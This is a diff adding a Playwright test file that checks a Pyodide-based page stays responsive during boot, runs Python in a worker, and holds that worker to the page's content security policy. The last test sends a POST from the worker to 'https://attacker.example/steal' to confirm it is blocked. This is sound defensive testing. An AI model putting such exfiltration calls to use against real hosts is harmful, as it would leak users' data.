@@ -1,0 +1,117 @@
+"""The page answers while its Python works: Python runs in a worker, the main thread takes input
+during boot, and the Long Tasks observer the benchmark relies on sees the main thread's tasks.
+
+No test here times anything (the shared machine makes times noise): they check where the work
+runs and that input is taken while the page is still booting. The figures are printed by
+benchmarks/page_responsiveness.py.
+"""
+from __future__ import annotations
+
+import pytest
+
+from browser import READY_TIMEOUT_MS, settling
+from routed import wait_until
+
+pytestmark = pytest.mark.browser
+pytest.importorskip("playwright.sync_api")
+
+PROBE = """
+window.__long = [];
+new PerformanceObserver(list => { for (const e of list.getEntries()) window.__long.push(e.duration); })
+  .observe({type: 'longtask', buffered: true});
+"""
+
+
+def held_page(browser, server):
+    """A page whose fixtures request is held: it stays booting (data-ready "false") until released."""
+    context = browser.new_context()
+    page = settling(context.new_page())
+    page.add_init_script(PROBE)
+    held = []
+    page.route("**/data/fixtures.json", lambda route: held.append(route))
+    page.goto(server, wait_until="commit")
+    return page, held
+
+
+def test_typing_echoes_while_the_page_boots(browser, server):
+    page, held = held_page(browser, server)
+    try:
+        page.wait_for_selector("#model", state="visible", timeout=READY_TIMEOUT_MS)
+        page.locator("#model").type('gpt-<b>4</b>"\u00e9')
+        value, ready, stage = page.evaluate(
+            "[document.getElementById('model').value, document.body.dataset.ready, document.body.dataset.stage]")
+        assert value == 'gpt-<b>4</b>"\u00e9' and ready == "false" and stage != ""
+    finally:
+        wait_until(page, lambda: held, "the worker asking for data/fixtures.json")
+        for route in held:
+            route.continue_()
+    page.wait_for_function("document.body.dataset.ready !== 'false'", timeout=READY_TIMEOUT_MS)
+    assert page.evaluate("document.body.dataset.ready") == "true", page.text_content("#boot-error")
+    assert page.input_value("#model") == 'gpt-<b>4</b>"\u00e9'       # the page kept what was typed
+    page.context.close()
+
+
+def test_python_runs_in_a_worker_not_on_the_main_thread(browser, server):
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(server)
+    page.wait_for_function("document.body.dataset.ready !== 'false'", timeout=READY_TIMEOUT_MS)
+    assert page.evaluate("document.body.dataset.ready") == "true"
+    assert page.evaluate("crossOriginIsolated")                        # what the worker's DOM access needs
+    main_loaded = page.evaluate("performance.getEntriesByType('resource').map(e => e.name)")
+    assert not [u for u in main_loaded if "pyodide.asm.wasm" in u or "python_stdlib" in u]
+    assert page.workers, "no worker runs the page's Python"
+    context.close()
+
+
+def test_the_long_task_observer_sees_main_thread_tasks(browser, server):
+    """The benchmark's probe is live: a task the test itself makes on the main thread is reported
+    (so a page-side figure of 0 long tasks means none happened, not a deaf observer)."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.add_init_script(PROBE)
+    page.goto(server)
+    page.wait_for_function("document.body.dataset.ready !== 'false'", timeout=READY_TIMEOUT_MS)
+    before = page.evaluate("window.__long.length")
+    page.evaluate("() => setTimeout(() => { const end = performance.now() + 150; while (performance.now() < end) {} })")
+    page.wait_for_function(f"window.__long.length > {before}", timeout=READY_TIMEOUT_MS)
+    context.close()
+
+
+def test_an_event_answered_by_the_worker_settles(browser, server):
+    """body[data-pending] counts Python handlers still running: it rises with an event and comes
+    back to "0" once the worker has answered (what tests wait on after an action)."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(server)
+    page.wait_for_function("document.body.dataset.ready === 'true'", timeout=READY_TIMEOUT_MS)
+    page.evaluate("""() => { window.__pendingSeen = [];
+        new MutationObserver(() => window.__pendingSeen.push(document.body.dataset.pending))
+          .observe(document.body, {attributes: true, attributeFilter: ['data-pending']}); }""")
+    page.select_option("#provider", "openai-compatible")
+    page.wait_for_function("document.body.dataset.pending === '0'", timeout=READY_TIMEOUT_MS)
+    assert page.evaluate("window.__pendingSeen")[0] == "1"
+    assert not page.is_hidden("#base-url-field")          # the worker's handler ran: the field shows
+    context.close()
+
+
+VIOLATION = """url => new Promise(done => {
+    self.addEventListener('securitypolicyviolation', e => done(e.violatedDirective + ' ' + e.blockedURI));
+    fetch(url, {method: 'POST'}).then(() => done('sent'), () => setTimeout(() => done('failed without a violation'), 200));
+})"""
+
+
+def test_the_worker_is_held_to_the_pages_security_policy(browser, server):
+    """The worker that sends provider requests starts from a blob: URL, so it inherits the page's
+    CSP: a connection the page's connect-src does not allow is refused in the worker too."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(server)
+    page.wait_for_function("document.body.dataset.ready === 'true'", timeout=READY_TIMEOUT_MS)
+    worker = page.workers[0]
+    assert worker.url.startswith("blob:")
+    assert worker.evaluate(VIOLATION, "https://attacker.example/steal") == "connect-src https://attacker.example/steal"
+    page.route("https://api.openai.com/**", lambda route: route.fulfill(
+        status=200, headers={"access-control-allow-origin": "*"}, body="{}"))
+    assert worker.evaluate(VIOLATION, "https://api.openai.com/v1/chat/completions") == "sent"
+    context.close()
